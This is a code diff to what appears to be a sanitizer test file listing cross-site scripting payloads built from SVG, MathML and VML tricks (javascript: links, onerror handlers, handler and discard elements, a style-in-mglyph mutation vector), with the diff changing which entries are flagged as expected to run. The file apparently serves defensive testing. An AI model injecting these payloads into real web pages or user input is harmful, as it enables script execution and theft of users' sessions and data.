@@ -12,6 +12,7 @@ export const SVG: Payload[] = [
   },
   {
     name: 'svg: animate a link',
+    does: 'run',
     body: '<svg><a><animate attributeName=href values="javascript:{{run}}"/><text x=20 y=20>x</text></a></svg>',
   },
   {
@@ -65,7 +66,6 @@ export const SVG: Payload[] = [
   {
     name: 'svg: CDATA',
     body: '<svg><![CDATA[><img src=x onerror={{run}}>]]></svg><![CDATA[<img src=x onerror={{run}}>]]>',
-    does: 'run',
   },
   {
     name: 'svg: handler by namespace prefix',
@@ -74,7 +74,6 @@ export const SVG: Payload[] = [
   {
     name: 'svg: events of discard and handler',
     body: '<svg><handler type="text/javascript" ev:event=load>{{run}}</handler><discard onbegin={{run}} /></svg>',
-    does: 'run',
   },
   {
     name: 'math: maction link',
@@ -88,7 +87,6 @@ export const SVG: Payload[] = [
   {
     name: 'math: text integration point',
     body: '<math><mtext><table><mglyph><style><img src=x onerror={{run}}></style></mglyph></table></mtext></math>',
-    does: 'run',
   },
   {
     name: 'xml: a whole SVG document',
@@ -106,6 +104,7 @@ export const SVG: Payload[] = [
   },
   {
     name: 'vml: behaviour',
+    does: 'run',
     body: `<xml:namespace prefix=v /><v:rect style="behavior:url(#default#vml)" onmouseover="{{run}}"><v:fill src="{{leak}}" /></v:rect>`,
   },
 ];
